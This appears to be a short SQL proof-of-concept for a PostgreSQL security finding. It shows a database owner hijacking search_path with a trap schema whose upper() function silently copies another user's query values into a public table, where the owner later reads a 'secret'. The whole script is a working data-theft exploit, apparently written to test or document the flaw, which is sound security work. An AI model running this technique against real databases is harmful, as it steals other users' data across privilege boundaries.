-- finding: database-owned database postgres
CREATE ROLE hosts; GRANT hosts TO "alice@example.com"; ALTER DATABASE postgres OWNER TO hosts;
CREATE SCHEMA bag; GRANT USAGE ON SCHEMA bag TO PUBLIC;
CREATE TABLE bag.taken (item text); GRANT ALL ON bag.taken TO PUBLIC;
-- first as postgres
DROP SCHEMA IF EXISTS trap CASCADE; ALTER DATABASE postgres RESET search_path;
TRUNCATE bag.taken;
-- first as alice@example.com
CREATE SCHEMA trap; GRANT USAGE ON SCHEMA trap TO PUBLIC;
CREATE FUNCTION trap.upper(item character varying) RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO bag.taken VALUES (item); RETURN item; END $$;
ALTER DATABASE postgres SET search_path = trap, public;
-- first as bob@example.com
SELECT upper(item::varchar) FROM shop.orders;
-- leak as alice@example.com
SELECT item FROM bag.taken WHERE item = 'secret';
